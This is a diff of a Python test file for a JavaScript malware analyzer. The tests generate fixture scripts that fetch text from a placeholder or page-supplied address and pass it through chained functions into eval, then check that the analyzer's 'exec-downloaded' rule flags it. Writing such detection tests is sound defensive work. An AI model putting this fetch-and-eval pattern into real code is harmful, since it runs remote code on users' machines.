@@ -9,12 +9,12 @@ REST = "".join(f"var v{number}={number};" for number in range(3000))
 """Of a middling library, on one line."""
 
 
-def through(functions):
+def through(functions, address='"https://files.invalid/x"'):
     """Something fetched, and as many functions that hand it on."""
     chain = "function f0(x){return eval(x)}"
     for number in range(1, functions):
         chain += f"function f{number}(x){{return f{number - 1}(x)}}"
-    fetched = 'const r=await fetch("https://files.invalid/x");'
+    fetched = f"const r=await fetch({address});"
     return f"{chain}async function g(){{{fetched}f{functions - 1}(await r.text())}}g();"
 
 
@@ -38,3 +38,14 @@ def test_the_farther_it_came_the_less_is_it_trusted(tmp_path, functions, rest, t
     ]
 
     assert found == [told]
+
+
+@pytest.mark.parametrize("functions", [1, 2, 3])
+def test_a_library_that_names_no_machine_fetches_where_its_page_says(tmp_path, functions):
+    code = through(functions, "document.body.dataset.from")
+    (tmp_path / "library.min.js").write_text(code + REST)
+
+    (found,) = JavaScriptAnalyzer().analyze(tmp_path)
+
+    assert found.rule == "javascript.exec-downloaded"
+    assert (found.confidence is Confidence.LOW) is (functions > 1)
